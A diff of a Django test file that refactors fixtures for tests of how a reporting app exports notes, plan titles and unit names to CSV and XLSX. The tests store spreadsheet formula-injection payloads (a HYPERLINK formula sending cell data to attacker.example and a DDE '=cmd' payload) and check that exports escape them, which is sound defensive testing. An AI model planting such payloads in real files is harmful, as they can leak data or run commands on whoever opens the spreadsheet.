@@ -24,10 +24,16 @@ from reports.imports.resources import ActualResource
 from reports.models import Actual
 from targets.models import Indicator, Target
 from targets.resources import TargetResource
-from tests.factories import unit_by_code
-from tests.factories_imports import LONG_VI, actual, csv_bytes, xlsx_bytes
-from tests.factories_imports import hanoi_plan as import_plan
-from tests.factories_progress import disu_plan, hanoi_plan
+from tests.factories import (
+    LONG_VI,
+    actual_make,
+    csv_bytes,
+    disu_plan,
+    hanoi_2024_two_districts,
+    hanoi_2024_with_results,
+    unit_by_code,
+    xlsx_bytes,
+)
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem")'
 EXPORT = reverse("reports:export")
@@ -64,8 +70,8 @@ def test_reading_back_is_the_exact_inverse_of_writing(text):
 
 @pytest.fixture
 def poisoned_note(db):
-    import_plan()
-    return actual("graduates_attracted", "001", "2024", "650", note=HYPERLINK)
+    hanoi_2024_two_districts()
+    return actual_make("graduates_attracted", "001", "2024", "650", note=HYPERLINK)
 
 
 def _csv_rows(content: bytes, delimiter: str = ";") -> list[list[str]]:
@@ -73,8 +79,8 @@ def _csv_rows(content: bytes, delimiter: str = ";") -> list[list[str]]:
 
 
 @pytest.mark.django_db
-def test_a_note_is_exported_to_csv_as_data(client, make_user, poisoned_note):
-    client.force_login(make_user("officer", "01"))
+def test_a_note_is_exported_to_csv_as_data(client, poisoned_note, officer_01):
+    client.force_login(officer_01)
     response = client.get(EXPORT, {"what": "actuals", "layout": "long", "format": "csv"})
     row = next(r for r in _csv_rows(response.content)[1:] if r[0] == "001")
     assert row[4] == "650"  # a number stays a number
@@ -82,8 +88,8 @@ def test_a_note_is_exported_to_csv_as_data(client, make_user, poisoned_note):
 
 
 @pytest.mark.django_db
-def test_a_note_is_exported_to_xlsx_as_a_text_cell(client, make_user, poisoned_note):
-    client.force_login(make_user("officer", "01"))
+def test_a_note_is_exported_to_xlsx_as_a_text_cell(client, poisoned_note, officer_01):
+    client.force_login(officer_01)
     response = client.get(EXPORT, {"what": "actuals", "layout": "long", "format": "xlsx"})
     sheet = load_workbook(io.BytesIO(response.content)).active
     note = sheet.cell(row=2, column=8)
@@ -94,9 +100,9 @@ def test_a_note_is_exported_to_xlsx_as_a_text_cell(client, make_user, poisoned_n
 @pytest.mark.django_db
 @pytest.mark.parametrize("file_format", ["csv", "xlsx"])
 def test_importing_the_export_gives_the_note_back_unchanged(
-    client, make_user, poisoned_note, file_format
+    client, poisoned_note, file_format, officer_01
 ):
-    officer = make_user("officer", "01")
+    officer = officer_01
     client.force_login(officer)
     response = client.get(EXPORT, {"what": "actuals", "layout": "long", "format": file_format})
     result = report_file_import(
@@ -158,7 +164,7 @@ def test_a_file_with_a_nul_character_is_refused_with_its_line():
 
 @pytest.mark.django_db
 def test_the_progress_spreadsheet_writes_a_plan_title_and_a_wording_as_text(client, make_user):
-    plan = hanoi_plan()
+    plan = hanoi_2024_with_results()
     plan.title = HYPERLINK
     plan.save()
     Target.objects.filter(plan=plan, unit__code="001").update(wording="=1+1")
@@ -186,7 +192,7 @@ def test_the_official_spreadsheet_writes_an_indicator_name_as_text(client, make_
 
 @pytest.mark.django_db
 def test_a_charts_csv_writes_a_unit_name_as_data(client, make_user):
-    hanoi_plan()
+    hanoi_2024_with_results()
     unit = unit_by_code("001")
     unit.name = "=cmd|' /C calc'!A0"
     unit.save()
@@ -200,7 +206,7 @@ def test_a_charts_csv_writes_a_unit_name_as_data(client, make_user):
 
 @pytest.mark.django_db
 def test_the_progress_command_keeps_negative_numbers_as_numbers():
-    hanoi_plan()
+    hanoi_2024_with_results()
     out = io.StringIO()
     call_command("progress", plan="hn-2024", year=2024, format="csv", stdout=out)
     rows = list(csv.reader(io.StringIO(out.getvalue())))
@@ -213,15 +219,15 @@ def test_the_progress_command_keeps_negative_numbers_as_numbers():
 
 
 @pytest.mark.django_db
-def test_the_admins_export_of_values_writes_a_note_as_data(make_user, poisoned_note):
-    dataset = ActualResource(actor=make_user("officer", "01")).export()
+def test_the_admins_export_of_values_writes_a_note_as_data(poisoned_note, officer_01):
+    dataset = ActualResource(actor=officer_01).export()
     assert dataset.dict[0]["ghi_chu"] == "'" + HYPERLINK
     assert "'=HYPERLINK" in dataset.csv
 
 
 @pytest.mark.django_db
 def test_the_admins_export_of_targets_writes_a_wording_as_data():
-    plan = import_plan()
+    plan = hanoi_2024_two_districts()
     Target.objects.filter(plan=plan).update(wording="+1 so với 2023")
     dataset = TargetResource().export()
     assert {row["wording"] for row in dataset.dict} == {"'+1 so với 2023"}
